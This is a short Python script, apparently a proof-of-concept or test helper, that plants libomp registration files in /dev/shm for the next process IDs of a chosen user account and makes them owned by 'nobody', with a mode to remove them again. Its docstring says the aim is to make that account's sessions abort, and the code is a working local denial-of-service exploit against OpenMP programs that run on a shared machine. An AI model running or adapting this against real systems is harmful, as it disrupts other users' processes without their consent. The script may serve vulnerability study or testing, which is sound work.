"""Create (or remove) libomp's registration objects for the next COUNT pids
of account UID, owned by another account (nobody), as a user who wants to
make that account's sessions abort would:
plant_registrations.py plant|remove UID COUNT STATEFILE"""
import os
import sys

action, uid, count, state = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
if action == "plant":
    first = int(open("/proc/sys/kernel/ns_last_pid").read()) + 1
    open(state, "w").write(str(first))
else:
    first = int(open(state).read())
pid_max = int(open("/proc/sys/kernel/pid_max").read())
for pid in range(first, first + count):
    path = "/dev/shm/__KMP_REGISTERED_LIB_%d_%d" % (pid % pid_max, uid)
    if action == "plant":
        try:
            fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
            os.write(fd, b"planted")
            os.close(fd)
            os.chown(path, 65534, 65534)
        except FileExistsError:
            pass
    else:
        try:
            st = os.stat(path)
            if st.st_uid == 65534:
                os.unlink(path)
        except FileNotFoundError:
            pass
